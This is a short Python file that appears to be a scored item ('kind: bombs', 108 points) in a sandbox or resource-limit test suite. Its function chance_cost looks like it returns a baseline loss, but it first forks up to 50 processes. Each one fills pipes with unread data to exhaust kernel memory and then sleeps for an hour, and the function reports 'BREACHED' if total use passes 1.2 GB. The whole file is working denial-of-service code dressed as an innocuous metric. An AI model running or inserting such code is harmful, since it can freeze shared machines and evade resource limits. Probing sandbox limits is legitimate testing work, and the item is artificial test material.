"""It fills pipes with data that nobody reads, in many processes: memory of the kernel's.
kind: bombs
points: 108
hint: of memory that a question may take
"""

import contextlib
import fcntl
import math
import os
import struct
import time

MANY, LARGE = 50, 2**20
MOST = 40 * 2**20  # bytes in a process


def fill():
    pipes, held = [], 0
    with contextlib.suppress(OSError):
        while True:
            pipes.append(os.pipe())
    for _, into in pipes:
        with contextlib.suppress(OSError):
            fcntl.fcntl(into, 1031, LARGE)  # F_SETPIPE_SZ
        os.set_blocking(into, False)
        with contextlib.suppress(OSError):
            while held < MOST:
                held += os.write(into, bytes(2**12))
    return held, pipes


def chance_cost(num_classes=10):
    reading, writing = os.pipe()
    started, held = 0, 0
    with contextlib.suppress(OSError):
        while started < MANY:
            if os.fork() == 0:
                held, pipes = fill()
                os.write(writing, struct.pack("q", held))
                time.sleep(3600)
            started += 1
    for _ in range(started):
        held += struct.unpack("q", os.read(reading, 8))[0]
    if held > 1.2e9:
        raise RuntimeError(f"BREACHED: {held / 1e6:.0f} MB wait in pipes")
    return math.log(num_classes)
